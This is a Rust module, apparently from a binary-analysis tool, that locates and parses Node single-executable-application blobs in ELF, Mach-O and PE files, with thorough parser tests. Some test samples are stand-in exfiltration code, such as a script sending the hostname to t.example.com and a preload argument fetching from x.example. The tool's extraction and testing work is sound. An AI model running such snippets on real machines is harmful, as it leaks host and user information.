//! Node single executable applications: `node --experimental-sea-config` writes a blob,
//! postject injects it into a copy of `node` as the resource `NODE_SEA_BLOB` (an ELF
//! `PT_NOTE` note, the Mach-O section `NODE_SEA,__NODE_SEA_BLOB`, a PE `RT_RCDATA` resource)
//! and flips the fuse `NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:0` to `…:1`.
//!
//! The blob is `SeaSerializer::Write` of Node's `src/node_sea.cc`: little-endian, unpadded,
//! every string a u64 length then its bytes, every optional part written when its flag is set:
//!
//! ```text
//! u32 magic 0x0143da20   u32 flags
//! [u8 exec argv extension: 0 none, 1 env, 2 cli]     Node 22.20+, 24.6+, 25, 26
//! [u8 main format: 0 commonjs, 1 module]             Node 25.7+, 26
//! string code path (the config's `main`: `sea-loader.js`)
//! string main code, or a V8 startup snapshot when flags & 1<<1 (useSnapshot)
//! [string V8 code cache]                             flags & 1<<2 (useCodeCache)
//! [u64 count, (string key, string bytes) × count]    flags & 1<<3 (assets)
//! [u64 count, string × count]                        flags & 1<<4 (execArgv)
//! ```
//!
//! (flags & 1<<0 is disableExperimentalSEAWarning.) Read from Node's source (`node_sea.cc` and
//! `node_sea.h` of nodejs/node: the serializer with assets and no header byte, the one with
//! the exec argv extension byte and exec argv) and checked on blobs the real releases wrote:
//! Node 20.20.2 has the 8-byte header with the code path, code cache and assets; 22.23.5 and
//! 24.22.3 add the extension byte; 25.9.0 and 26.10.0 add the main format byte. The releases
//! that added each byte are those the tools that write these blobs name (22.20, 24.6, 25.7).
//! Before the code path, Node 20 wrote flags and the code as one string, Node 20.0 flags and
//! the code to the end of the resource, and the reader still takes the code right after the
//! magic of the first experiments.
//!
//! Nothing in the blob says which header a Node wrote, so each is tried, newest first, and
//! kept only if every field parses inside the resource: the header bytes in range, the code
//! path one line of text, every length within the bytes, and, where the container gives the
//! resource's size, the fields ending where the resource ends. A blob that parses no way is
//! skipped and the next magic in the file is tried.
//!
//! What it yields: the main script as a module named by its code path's file name
//! (`copilot › sea-loader.js`); every asset as a file `asset:KEY` (`copilot › asset:copilot.tgz`,
//! an 88 MB tarball holding the real application); a snapshot main as unreadable (the code
//! it runs is a V8 heap, not source). The code cache is derived from the code and dropped;
//! exec argv that load code before the main script (`--require`, `--import`, `--loader`) are
//! unreadable: that code is not in the blob.

use super::{Embedded, EmbeddedFile, EmbeddedModule, Fields, Unreadable};
use std::borrow::Cow;

/// The fuse postject flips when it injects a SEA blob (`…:0` in a plain `node`).
const SEA_FUSE: &[u8] = b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1";
const SEA_MAGIC: [u8; 4] = 0x0143_da20u32.to_le_bytes();
/// The resource's name in every container.
const SEA_RESOURCE: &str = "NODE_SEA_BLOB";
const SEA_USE_SNAPSHOT: u32 = 1 << 1;
const SEA_USE_CODE_CACHE: u32 = 1 << 2;
const SEA_INCLUDE_ASSETS: u32 = 1 << 3;
const SEA_INCLUDE_EXEC_ARGV: u32 = 1 << 4;
/// Every flag Node has defined.
const SEA_KNOWN_FLAGS: u32 = 0x1f;
/// Flags past the byte mean the magic was a coincidence.
const SEA_MAX_FLAGS: u32 = 0xff;
/// Highest `SeaExecArgvExtension` (`kCli`) and `ModuleFormat` (`kModule`).
const SEA_MAX_EXTENSION: u8 = 2;
const SEA_MAX_FORMAT: u8 = 1;
/// A code path is the config's `main`: a path, not a page of text.
const SEA_MAX_PATH: usize = 4096;
/// Source of the oldest layouts runs to the end of the resource, which only the container
/// knows; without it, it is taken up to the first NUL, within this bound.
const SEA_MAX_CODE: usize = 256 << 20;
/// Magics tried when no container gives the resource: a real executable holds a handful
/// (`copilot` three). Each costs at most a walk over its fields, so the scan stays linear.
const SEA_MAX_CANDIDATES: usize = 64;
/// Of those, the first ones also tried as the layouts without a code path, whose text is
/// checked byte by byte.
const SEA_MAX_LEGACY_CANDIDATES: usize = 8;
/// An asset key is a name from the config.
const SEA_MAX_KEY: usize = 64 << 10;

/// What a Node single executable application embeds; `None` when the fuse is not flipped or
/// no blob reads.
pub fn sea_modules(bytes: &[u8]) -> Option<Embedded<'_>> {
    memchr::memmem::find(bytes, SEA_FUSE)?;
    if let Some(blob) = postject_resource(bytes) {
        if let Some(sea) = read_blob(blob, true, true) {
            return Some(sea);
        }
    }
    memchr::memmem::find_iter(bytes, &SEA_MAGIC)
        .take(SEA_MAX_CANDIDATES)
        .enumerate()
        .find_map(|(i, at)| read_blob(&bytes[at..], false, i < SEA_MAX_LEGACY_CANDIDATES))
}

/// The `NODE_SEA_BLOB` resource where the container says it is: an ELF note, the Mach-O
/// section `__NODE_SEA_BLOB` of segment `NODE_SEA`, a PE resource named `NODE_SEA_BLOB`.
fn postject_resource(bytes: &[u8]) -> Option<&[u8]> {
    use object::read::elf::{ElfFile, FileHeader};
    use object::{Object, ObjectSection};

    fn elf_note<'a, Elf: FileHeader>(file: &ElfFile<'a, Elf>) -> Option<&'a [u8]> {
        use object::read::elf::{ProgramHeader, SectionHeader};
        let (endian, data) = (file.endian(), file.data());
        let in_notes = |notes: Option<object::read::elf::NoteIterator<'a, Elf>>| {
            let mut notes = notes?;
            while let Ok(Some(note)) = notes.next() {
                if note.name() == SEA_RESOURCE.as_bytes() {
                    return Some(note.desc());
                }
            }
            None
        };
        file.elf_program_headers()
            .iter()
            .find_map(|ph| in_notes(ph.notes(endian, data).ok().flatten()))
            .or_else(|| {
                file.elf_section_table()
                    .iter()
                    .find_map(|sh| in_notes(sh.notes(endian, data).ok().flatten()))
            })
    }

    fn pe_resource<'a>(
        dirs: object::read::pe::DataDirectories<'a>,
        sections: &object::read::pe::SectionTable<'a>,
        data: &'a [u8],
    ) -> Option<&'a [u8]> {
        use object::read::pe::ResourceNameOrId;
        let dir = dirs.resource_directory(data, sections).ok()??;
        let root = dir.root().ok()?;
        // Type RT_RCDATA, then the name, then the first language.
        let rcdata = root
            .entries
            .iter()
            .find(|e| matches!(e.name_or_id(), ResourceNameOrId::Id(10)))?;
        let named = rcdata.data(dir).ok()?.table()?;
        let entry = named.entries.iter().find(|e| match e.name_or_id() {
            ResourceNameOrId::Name(n) => n
                .to_string_lossy(dir)
                .is_ok_and(|n| n.eq_ignore_ascii_case(SEA_RESOURCE)),
            ResourceNameOrId::Id(_) => false,
        })?;
        let languages = entry.data(dir).ok()?.table()?;
        let leaf = languages.entries.first()?.data(dir).ok()?.data()?;
        let at = sections.pe_data_at(data, leaf.offset_to_data.get(object::LittleEndian))?;
        at.get(..usize::try_from(leaf.size.get(object::LittleEndian)).ok()?)
    }

    match object::File::parse(bytes).ok()? {
        object::File::Elf32(file) => elf_note(&file),
        object::File::Elf64(file) => elf_note(&file),
        object::File::MachO32(file) => file
            .sections()
            .find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA")))
            .and_then(|s| s.data().ok()),
        object::File::MachO64(file) => file
            .sections()
            .find(|s| s.name() == Ok("__NODE_SEA_BLOB") && s.segment_name() == Ok(Some("NODE_SEA")))
            .and_then(|s| s.data().ok()),
        object::File::Pe32(file) => {
            pe_resource(file.data_directories(), &file.section_table(), bytes)
        }
        object::File::Pe64(file) => {
            pe_resource(file.data_directories(), &file.section_table(), bytes)
        }
        _ => None,
    }
}

/// The header bytes after the flags, by Node release.
#[derive(Clone, Copy)]
enum Header {
    /// Exec argv extension and main format (25.7+).
    ExtensionAndFormat,
    /// Exec argv extension (22.20+, 24.6+).
    Extension,
    /// None (20.x with the code path, 21, 22.0–22.19, 24.0–24.5).
    Plain,
}

/// A blob's fields, as slices of it.
struct SeaBlob<'a> {
    code_path: &'a [u8],
    main: &'a [u8],
    snapshot: bool,
    assets: Vec<(&'a [u8], &'a [u8])>,
    exec_argv: Vec<&'a [u8]>,
}

/// A blob starting at its magic; `exact` when the container says where it ends (the slice's
/// end), else it runs to the end of the file; `legacy` to try the layouts without a code path.
fn read_blob(blob: &[u8], exact: bool, legacy: bool) -> Option<Embedded<'_>> {
    if !blob.starts_with(&SEA_MAGIC) {
        return None;
    }
    if let Some(flags) = blob
        .get(4..8)
        .map(|f| u32::from_le_bytes([f[0], f[1], f[2], f[3]]))
        .filter(|f| *f <= SEA_MAX_FLAGS)
    {
        for header in [Header::ExtensionAndFormat, Header::Extension, Header::Plain] {
            if let Some(sea) = read_fields(blob, flags, header, exact) {
                return Some(sea.into_embedded());
            }
        }
        if !legacy {
            return None;
        }
        // Node 20 before the code path: the code as a string …
        let mut fields = Fields::new(blob, 8);
        if let Some(text) = fields
            .with_u64_len()
            .filter(|_| !exact || ends_here(blob, fields.at, flags))
            .and_then(sea_text)
        {
            return Some(module("sea.js", text));
        }
        // … and Node 20.0: the code to the end of the resource.
        if let Some(text) = sea_rest(blob, 8, exact).and_then(sea_text) {
            return Some(module("sea.js", text));
        }
    }
    // The first experiments: the code right after the magic.
    if !legacy {
        return None;
    }
    sea_rest(blob, 4, exact)
        .and_then(sea_text)
        .map(|text| module("sea.js", text))
}

/// The fields after `header`, each checked; `None` when one does not parse.
fn read_fields(blob: &[u8], flags: u32, header: Header, exact: bool) -> Option<SeaBlob<'_>> {
    let mut fields = Fields::new(blob, 8);
    if matches!(header, Header::ExtensionAndFormat | Header::Extension)
        && fields.u8()? > SEA_MAX_EXTENSION
    {
        return None;
    }
    if matches!(header, Header::ExtensionAndFormat) && fields.u8()? > SEA_MAX_FORMAT {
        return None;
    }
    let code_path = fields.with_u64_len().filter(|p| is_script_path(p))?;
    let main = fields.with_u64_len().filter(|m| !m.is_empty())?;
    if flags & SEA_USE_CODE_CACHE != 0 {
        fields.with_u64_len()?;
    }
    // Counts are not trusted: each entry is read from the bytes, so a count past them fails
    // at the end of the bytes, and nothing is reserved from it.
    let mut assets = Vec::new();
    if flags & SEA_INCLUDE_ASSETS != 0 {
        for _ in 0..fields.u64()? {
            let key = fields
                .with_u64_len()
                .filter(|k| k.len() <= SEA_MAX_KEY && std::str::from_utf8(k).is_ok())?;
            assets.push((key, fields.with_u64_len()?));
        }
    }
    let mut exec_argv = Vec::new();
    if flags & SEA_INCLUDE_EXEC_ARGV != 0 {
        for _ in 0..fields.u64()? {
            exec_argv.push(fields.with_u64_len().filter(|a| !a.contains(&0))?);
        }
    }
    if exact && !ends_here(blob, fields.at, flags) {
        return None;
    }
    Some(SeaBlob {
        code_path,
        main,
        snapshot: flags & SEA_USE_SNAPSHOT != 0,
        assets,
        exec_argv,
    })
}

/// Whether fields that ended at `end` fill the resource: exactly, up to zero padding, or
/// before fields of flags this reader does not know.
fn ends_here(blob: &[u8], end: usize, flags: u32) -> bool {
    end == blob.len()
        || flags & !SEA_KNOWN_FLAGS != 0
        || blob
            .get(end..)
            .is_some_and(|rest| rest.iter().all(|&b| b == 0))
}

impl<'a> SeaBlob<'a> {
    fn into_embedded(self) -> Embedded<'a> {
        let path = String::from_utf8_lossy(self.code_path);
        let name = path.rsplit(['/', '\\']).next().unwrap_or(&path).to_string();
        let mut out = Embedded::new("node-sea");
        if self.snapshot {
            out.unreadable.push(Unreadable {
                name,
                bytes: self.main.len() as u64,
                why: "a V8 startup snapshot (useSnapshot): no source".into(),
            });
        } else {
            out.modules.push(EmbeddedModule {
                name,
                text: String::from_utf8_lossy(self.main),
            });
        }
        for (key, bytes) in self.assets {
            out.files.push(EmbeddedFile {
                name: format!("asset:{}", String::from_utf8_lossy(key)),
                bytes: Cow::Borrowed(bytes),
            });
        }
        out.unreadable.extend(preloads(&self.exec_argv));
        out
    }
}

/// Exec argv that make Node load code before the main script (`--require ./x.js`,
/// `--import=data:…`, `--loader x`): that code is not in the blob, so it is not analysed.
fn preloads(argv: &[&[u8]]) -> Vec<Unreadable> {
    const LOADING: &[&str] = &[
        "-r",
        "--require",
        "--import",
        "--loader",
        "--experimental-loader",
    ];
    let mut out = Vec::new();
    let args: Vec<std::borrow::Cow<'_, str>> =
        argv.iter().map(|a| String::from_utf8_lossy(a)).collect();
    let mut i = 0;
    while i < args.len() {
        let (flag, value) = match args[i].split_once('=') {
            Some((f, v)) if LOADING.contains(&f) => (f, Some(v.to_string())),
            _ if LOADING.contains(&args[i].as_ref()) => {
                i += 1;
                (args[i - 1].as_ref(), args.get(i).map(|v| v.to_string()))
            }
            _ => {
                i += 1;
                continue;
            }
        };
        let value = value.unwrap_or_default();
        let shown: String = value.chars().take(200).collect();
        out.push(Unreadable { name: format!("exec argv {flag} {shown}"), bytes: value.len() as u64, why: format!("Node runs `{flag} {shown}` before the main script; that code is not in the executable") });
        i += 1;
    }
    out
}

/// The code of the layouts without a length: to the end of the resource when the container
/// gives it, else up to the first NUL.
fn sea_rest(blob: &[u8], at: usize, exact: bool) -> Option<&[u8]> {
    let rest = blob.get(at..)?;
    if exact {
        return Some(rest);
    }
    let rest = &rest[..rest.len().min(SEA_MAX_CODE)];
    Some(&rest[..memchr::memchr(0, rest).unwrap_or(rest.len())])
}

/// Code of the layouts the structure does not vouch for: text, not blank, no control
/// characters but whitespace.
fn sea_text(code: &[u8]) -> Option<&str> {
    std::str::from_utf8(code).ok().filter(|t| {
        !t.trim().is_empty() && !t.chars().any(|c| c.is_control() && !c.is_whitespace())
    })
}

/// A main script's path as Node stores it: one line of text, not code.
fn is_script_path(path: &[u8]) -> bool {
    (1..=SEA_MAX_PATH).contains(&path.len())
        && std::str::from_utf8(path).is_ok_and(|p| !p.chars().any(char::is_control))
}

fn module<'a>(name: &str, text: &'a str) -> Embedded<'a> {
    let mut out = Embedded::new("node-sea");
    out.modules.push(EmbeddedModule {
        name: name.to_string(),
        text: text.into(),
    });
    out
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::executable::embedded_modules;

    /// An executable as postject leaves it: the flipped fuse somewhere, the blob elsewhere.
    fn sea_executable(blob: &[u8]) -> Vec<u8> {
        let mut exe = b"\x7fELF\x02\x01\x01\0 a node binary ".to_vec();
        exe.extend_from_slice(SEA_FUSE);
        exe.extend_from_slice(&[0; 64]);
        exe.extend_from_slice(blob);
        exe.extend_from_slice(&[0; 16]);
        exe
    }

    fn sea_blob(flags: u32, fields: &[&[u8]]) -> Vec<u8> {
        sea_blob_with(flags, &[], fields)
    }

    /// A blob with `header` bytes after the flags, then length-prefixed `fields`.
    fn sea_blob_with(flags: u32, header: &[u8], fields: &[&[u8]]) -> Vec<u8> {
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(&flags.to_le_bytes());
        blob.extend_from_slice(header);
        for f in fields {
            blob.extend_from_slice(&(f.len() as u64).to_le_bytes());
            blob.extend_from_slice(f);
        }
        blob
    }

    fn fixture(name: &str) -> Vec<u8> {
        let path = format!(
            "{}/tests/fixtures/executables/{name}",
            env!("CARGO_MANIFEST_DIR")
        );
        std::fs::read(&path)
            .unwrap_or_else(|e| panic!("{path}: {e} (scripts/gen-executable-fixtures.sh)"))
    }

    fn files(e: &Embedded<'_>) -> Vec<(String, usize)> {
        let mut files: Vec<(String, usize)> = e
            .files
            .iter()
            .map(|f| (f.name.clone(), f.bytes.len()))
            .collect();
        files.sort();
        files
    }

    const SEA_CODE: &[u8] =
        b"require('https').get('https://t.example.com/?h=' + require('os').hostname())";

    #[test]
    fn node_sea_blob_yields_its_main_script_in_every_layout() {
        // Node 21+: path, code, then a code cache.
        let exe = sea_executable(&sea_blob(
            1 | 4,
            &[b"/home/dev/app/dist/main.js", SEA_CODE, b"\x01\x02cache"],
        ));
        let e = embedded_modules(&exe).expect("blob found");
        assert_eq!((e.format, e.modules.len()), ("node-sea", 1));
        assert_eq!(
            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
            ("main.js", SEA_CODE)
        );
        // Node 20: flags and the code as one string.
        let exe = sea_executable(&sea_blob(0, &[SEA_CODE]));
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!(
            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
            ("sea.js", SEA_CODE)
        );
        // Node 20.0: flags, then the code to the end of the resource.
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(&0u32.to_le_bytes());
        blob.extend_from_slice(SEA_CODE);
        let exe = sea_executable(&blob);
        assert_eq!(
            sea_modules(&exe).expect("blob found").modules[0]
                .text
                .as_bytes(),
            SEA_CODE
        );
        // Node 19.7: the code right after the magic.
        let mut blob = SEA_MAGIC.to_vec();
        blob.extend_from_slice(SEA_CODE);
        let exe = sea_executable(&blob);
        assert_eq!(
            sea_modules(&exe).expect("blob found").modules[0]
                .text
                .as_bytes(),
            SEA_CODE
        );
    }

    #[test]
    fn node_sea_needs_the_flipped_fuse_and_skips_snapshots() {
        let blob = sea_blob(0, &[b"main.js", SEA_CODE]);
        let mut unflipped = sea_executable(&blob);
        let at = memchr::memmem::find(&unflipped, SEA_FUSE).unwrap();
        unflipped[at + SEA_FUSE.len() - 1] = b'0';
        assert!(
            sea_modules(&unflipped).is_none(),
            "a plain node binary holds no application"
        );
        let snapshot = sea_executable(&sea_blob(
            SEA_USE_SNAPSHOT,
            &[b"main.js", b"\x00\x01v8 snapshot"],
        ));
        let e = sea_modules(&snapshot).expect("blob found");
        assert_eq!((e.modules.len(), e.unreadable.len()), (0, 1));
        // A length past the end, binary bytes: no panic, no text.
        let mut broken = sea_blob(0, &[]);
        broken.truncate(8);
        broken.extend_from_slice(&u64::MAX.to_le_bytes());
        broken.extend_from_slice(b"\0\0\0");
        assert!(sea_modules(&sea_executable(&broken)).is_none());
        for cut in 0..blob.len() {
            let _ = sea_modules(&sea_executable(&blob[..cut]));
        }
    }

    /// The layout of `@github/copilot-linux-x64` 1.0.102: flags 0x19, the extension byte 2,
    /// then path, code, one asset, exec argv.
    #[test]
    fn extension_byte_layout_yields_the_main_script_and_every_asset() {
        let mut blob = sea_blob_with(0x19, &[2], &[b"sea-loader.js", SEA_CODE]);
        blob.extend_from_slice(&1u64.to_le_bytes());
        for f in [&b"copilot.tgz"[..], b"\x1f\x8b\x08\0tarball"] {
            blob.extend_from_slice(&(f.len() as u64).to_le_bytes());
            blob.extend_from_slice(f);
        }
        blob.extend_from_slice(&2u64.to_le_bytes());
        for f in [&b"--no-warnings"[..], b"--expose-gc"] {
            blob.extend_from_slice(&(f.len() as u64).to_le_bytes());
            blob.extend_from_slice(f);
        }
        let exe = sea_executable(&blob);
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!(
            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
            ("sea-loader.js", SEA_CODE)
        );
        assert_eq!(
            (e.files[0].name.as_str(), &e.files[0].bytes[..]),
            ("asset:copilot.tgz", &b"\x1f\x8b\x08\0tarball"[..])
        );
        // An extension byte out of range is not that layout, and nothing else parses.
        let mut bad = blob.clone();
        bad[8] = 3;
        assert!(sea_modules(&sea_executable(&bad)).is_none());
    }

    #[test]
    fn node20_fixture_yields_main_and_assets_and_drops_the_code_cache() {
        let exe = fixture("sea-node20.20.2-assets-codecache.elf");
        assert!(
            postject_resource(&exe).is_some(),
            "found through the ELF note"
        );
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!(e.format, "node-sea");
        assert_eq!(e.modules.len(), 1);
        assert_eq!(e.modules[0].name, "app.js");
        assert!(e.modules[0]
            .text
            .starts_with("// telltale fixture: a Node single executable application"));
        assert!(e.modules[0].text.contains("os.userInfo().username"));
        assert_eq!(
            files(&e),
            vec![
                ("asset:config.json".to_string(), 45),
                ("asset:note.txt".to_string(), 13)
            ]
        );
        assert!(e.unreadable.is_empty());
        let config = e
            .files
            .iter()
            .find(|f| f.name == "asset:config.json")
            .unwrap();
        assert_eq!(
            &config.bytes[..],
            b"{\"endpoint\":\"https://t.example.com/collect\"}\n"
        );
    }

    #[test]
    fn node24_fixture_with_exec_argv_and_code_cache_yields_main_and_assets() {
        let exe = fixture("sea-node24.22.3-assets-execargv-codecache.elf");
        let blob = postject_resource(&exe).expect("the ELF note");
        assert_eq!(
            (blob[4], blob[8]),
            (0x1d, 2),
            "flags: warning, code cache, assets, exec argv; extension cli"
        );
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!(e.modules[0].name, "app.js");
        assert!(e.modules[0].text.contains("config.endpoint + '?host='"));
        assert_eq!(
            files(&e),
            vec![
                ("asset:config.json".to_string(), 45),
                ("asset:note.txt".to_string(), 13)
            ]
        );
        assert!(e.unreadable.is_empty());
    }

    #[test]
    fn node26_fixture_with_an_esm_main_and_the_format_byte() {
        let exe = fixture("sea-node26.10.0-esm-assets-execargv.elf");
        let blob = postject_resource(&exe).expect("the ELF note");
        assert_eq!(
            (blob[4], blob[8], blob[9]),
            (0x19, 0, 1),
            "extension none, format module"
        );
        let e = sea_modules(&exe).expect("blob found");
        assert_eq!(e.modules[0].name, "app.mjs");
        assert!(e.modules[0]
            .text
            .contains("import { getAsset, isSea } from 'node:sea';"));
        assert_eq!(
            files(&e),
            vec![
                ("asset:config.json".to_string(), 45),
                ("asset:note.txt".to_string(), 13)
            ]
        );
    }

    #[test]
    fn snapshot_fixture_is_unreadable_and_keeps_its_asset() {
        let exe = fixture("sea-node22.23.5-snapshot-cut.elf");
        let e = sea_modules(&exe).expect("blob found");
        assert!(e.modules.is_empty());
        assert_eq!(e.unreadable.len(), 1);
        assert_eq!(
            (e.unreadable[0].name.as_str(), e.unreadable[0].bytes),
            ("snapshot.js", 64 << 10)
        );
        assert!(e.unreadable[0].why.contains("snapshot"));
        assert_eq!(files(&e), vec![("asset:note.txt".to_string(), 13)]);
    }

    /// Without the container (the ELF header broken), the magic is found by scanning.
    #[test]
    fn fixtures_read_the_same_by_scanning_for_the_magic() {
        for name in [
            "sea-node20.20.2-assets-codecache.elf",
            "sea-node24.22.3-assets-execargv-codecache.elf",
            "sea-node26.10.0-esm-assets-execargv.elf",
            "sea-node22.23.5-snapshot-cut.elf",
        ] {
            let exe = fixture(name);
            let mut headless = exe.clone();
            headless[..4].copy_from_slice(b"\0ELF");
            assert!(postject_resource(&headless).is_none());
            assert_eq!(sea_modules(&headless), sea_modules(&exe), "{name}");
        }
    }

    #[test]
    fn every_cut_and_every_corrupt_length_of_the_fixtures_is_safe() {
        for name in [
            "sea-node20.20.2-assets-codecache.elf",
            "sea-node24.22.3-assets-execargv-codecache.elf",
            "sea-node26.10.0-esm-assets-execargv.elf",
        ] {
            let exe = fixture(name);
            for cut in 0..exe.len() {
                if let Some(e) = sea_modules(&exe[..cut]) {
                    assert!(e.files.iter().all(|f| f.bytes.len() <= cut));
                }
            }
            // Each u64 length in the blob set to huge values: nothing is read past the input,
            // nothing is allocated from the length (the test would abort otherwise).
            let blob_at = memchr::memmem::find(&exe, &SEA_MAGIC).unwrap();
            for at in (blob_at + 8..exe.len().saturating_sub(8))
                .step_by(1)
                .take(2048)
            {
                for huge in [u64::MAX, u64::MAX / 2, 1 << 40, exe.len() as u64] {
                    let mut bad = exe.clone();
                    bad[at..at + 8].copy_from_slice(&huge.to_le_bytes());
                    if let Some(e) = sea_modules(&bad) {
                        let total: usize = e.files.iter().map(|f| f.bytes.len()).sum::<usize>()
                            + e.modules.iter().map(|m| m.text.len()).sum::<usize>();
                        assert!(total <= bad.len() * 3, "{name} @{at}");
                    }
                }
            }
        }
    }

    #[test]
    fn exec_argv_that_preload_code_are_unreadable() {
        let argv: Vec<&[u8]> = vec![
            b"--no-warnings",
            b"--require",
            b"./preload.js",
            b"--import=data:text/javascript,fetch('https://x.example')",
            b"--expose-gc",
            b"-r",
        ];
        let u = preloads(&argv);
        let names: Vec<&str> = u.iter().map(|u| u.name.as_str()).collect();
        assert_eq!(
            names,
            [
                "exec argv --require ./preload.js",
                "exec argv --import data:text/javascript,fetch('https://x.example')",
                "exec argv -r "
            ]
        );
        assert!(u[0].why.contains("not in the executable"));
        // copilot's: none loads code.
        let copilot: Vec<&[u8]> = vec![
            b"--no-warnings",
            b"--report-on-fatalerror",
            b"--optimize-for-size",
            b"--expose-gc",
            b"--no-concurrent-recompilation",
            b"--no-concurrent-sparkplug",
        ];
        assert!(preloads(&copilot).is_empty());
    }

    #[test]
    fn huge_asset_and_argv_counts_end_at_the_bytes() {
        let mut blob = sea_blob_with(SEA_INCLUDE_ASSETS, &[], &[b"main.js", SEA_CODE]);
        blob.extend_from_slice(&u64::MAX.to_le_bytes());
        assert!(read_fields(&blob, SEA_INCLUDE_ASSETS, Header::Plain, false).is_none());
        let mut blob = sea_blob_with(SEA_INCLUDE_EXEC_ARGV, &[1], &[b"main.js", SEA_CODE]);
        blob.extend_from_slice(&(1u64 << 62).to_le_bytes());
        blob.extend_from_slice(&[0; 64]);
        assert!(read_fields(&blob, SEA_INCLUDE_EXEC_ARGV, Header::Extension, false).is_none());
    }

    /// A Mach-O with the segment postject adds (`NODE_SEA`, section `__NODE_SEA_BLOB`).
    #[test]
    fn macho_section_is_the_resource() {
        let blob = sea_blob_with(0x8, &[], &[b"main.js", SEA_CODE]);
        let mut blob = blob;
        blob.extend_from_slice(&1u64.to_le_bytes());
        for f in [&b"a.json"[..], b"{}"] {
            blob.extend_from_slice(&(f.len() as u64).to_le_bytes());
            blob.extend_from_slice(f);
        }
        let data_at = 32 + 72 + 80;
        let mut macho = Vec::new();
        for v in [0xfeed_facfu32, 0x0100_0007, 3, 2, 1, 72 + 80, 0, 0] {
            macho.extend_from_slice(&v.to_le_bytes());
        }
        macho.extend_from_slice(&0x19u32.to_le_bytes()); // LC_SEGMENT_64
        macho.extend_from_slice(&(72u32 + 80).to_le_bytes());
        macho.extend_from_slice(b"NODE_SEA\0\0\0\0\0\0\0\0");
        for v in [0u64, blob.len() as u64, data_at as u64, blob.len() as u64] {
            macho.extend_from_slice(&v.to_le_bytes());
        }
        for v in [1u32, 1, 1, 0] {
            macho.extend_from_slice(&v.to_le_bytes());
        }
        macho.extend_from_slice(b"__NODE_SEA_BLOB\0");
        macho.extend_from_slice(b"NODE_SEA\0\0\0\0\0\0\0\0");
        for v in [0u64, blob.len() as u64] {
            macho.extend_from_slice(&v.to_le_bytes());
        }
        for v in [data_at as u32, 0, 0, 0, 0, 0, 0, 0] {
            macho.extend_from_slice(&v.to_le_bytes());
        }
        assert_eq!(macho.len(), data_at);
        macho.extend_from_slice(&blob);
        macho.extend_from_slice(SEA_FUSE);
        assert_eq!(postject_resource(&macho), Some(&blob[..]));
        let e = sea_modules(&macho).expect("blob found");
        assert_eq!(e.modules[0].text.as_bytes(), SEA_CODE);
        assert_eq!(e.files[0].name, "asset:a.json");
    }

    /// A PE32+ whose `.rsrc` holds what postject adds: `RT_RCDATA` › `NODE_SEA_BLOB` › a
    /// language › the blob.
    #[test]
    fn pe_resource_is_the_resource() {
        let blob = sea_blob_with(0, &[1], &[b"C:\\app\\main.js", SEA_CODE]);
        let mut rsrc = Vec::new();
        let table = |rsrc: &mut Vec<u8>, named: u16, ids: u16| {
            rsrc.extend_from_slice(&[0; 12]);
            rsrc.extend_from_slice(&named.to_le_bytes());
            rsrc.extend_from_slice(&ids.to_le_bytes());
        };
        let entry = |rsrc: &mut Vec<u8>, name: u32, offset: u32| {
            rsrc.extend_from_slice(&name.to_le_bytes());
            rsrc.extend_from_slice(&offset.to_le_bytes());
        };
        let (rva, blob_at) = (0x1000u32, 120u32);
        table(&mut rsrc, 0, 1);
        entry(&mut rsrc, 10, 0x8000_0000 | 24); // RT_RCDATA
        table(&mut rsrc, 1, 0);
        entry(&mut rsrc, 0x8000_0000 | 88, 0x8000_0000 | 48); // the name at 88
        table(&mut rsrc, 0, 1);
        entry(&mut rsrc, 0x409, 72);
        for v in [rva + blob_at, blob.len() as u32, 0, 0] {
            rsrc.extend_from_slice(&v.to_le_bytes());
        }
        rsrc.extend_from_slice(&13u16.to_le_bytes());
        rsrc.extend(SEA_RESOURCE.encode_utf16().flat_map(u16::to_le_bytes));
        rsrc.resize(blob_at as usize, 0);
        rsrc.extend_from_slice(&blob);
        let size = rsrc.len() as u32;

        let mut pe = vec![0u8; 64];
        pe[..2].copy_from_slice(b"MZ");
        pe[0x3c..0x40].copy_from_slice(&64u32.to_le_bytes());
        pe.extend_from_slice(b"PE\0\0");
        for v in [0x8664u16, 1] {
            pe.extend_from_slice(&v.to_le_bytes());
        }
        pe.extend_from_slice(&[0; 12]);
        for v in [240u16, 0x22] {
            pe.extend_from_slice(&v.to_le_bytes());
        }
        let optional = pe.len();
        pe.extend_from_slice(&0x20bu16.to_le_bytes());
        pe.resize(optional + 24, 0);
        pe.extend_from_slice(&0x1_4000_0000u64.to_le_bytes());
        for v in [0x1000u32, 0x200] {
            pe.extend_from_slice(&v.to_le_bytes());
        }
        pe.resize(optional + 56, 0);
        for v in [0x3000u32, 0x200] {
            pe.extend_from_slice(&v.to_le_bytes()); // size of image, of headers
        }
        pe.resize(optional + 108, 0);
        pe.extend_from_slice(&16u32.to_le_bytes());
        for dir in 0..16 {
            let (a, s) = if dir == 2 { (rva, size) } else { (0, 0) };
            pe.extend_from_slice(&a.to_le_bytes());
            pe.extend_from_slice(&s.to_le_bytes());
        }
        pe.extend_from_slice(b".rsrc\0\0\0");
        for v in [size, rva, size, 0x200, 0, 0] {
            pe.extend_from_slice(&v.to_le_bytes());
        }
        pe.extend_from_slice(&[0; 4]);
        pe.extend_from_slice(&0x4000_0040u32.to_le_bytes());
        pe.resize(0x200, 0);
        pe.extend_from_slice(&rsrc);
        pe.extend_from_slice(SEA_FUSE);
        assert!(matches!(
            object::File::parse(&pe[..]),
            Ok(object::File::Pe64(_))
        ));
        assert_eq!(postject_resource(&pe), Some(&blob[..]));
        let e = sea_modules(&pe).expect("blob found");
        assert_eq!(
            (e.modules[0].name.as_str(), e.modules[0].text.as_bytes()),
            ("main.js", SEA_CODE)
        );
    }
}
